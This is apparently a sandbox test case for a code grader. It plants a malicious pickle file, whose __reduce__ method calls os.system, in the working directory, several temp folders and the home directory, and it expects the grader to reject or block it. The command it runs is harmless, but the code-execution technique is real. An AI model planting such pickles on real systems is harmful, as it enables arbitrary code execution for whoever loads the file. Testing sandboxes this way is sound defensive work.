# attack: leave a pickle where somebody might load it
# expect: wrong_answer, forbidden_operation, runtime_error
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("true",)


for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    with open(os.path.join(folder, "torchgrader-attack.pt"), "wb") as file:
        pickle.dump(Bomb(), file)
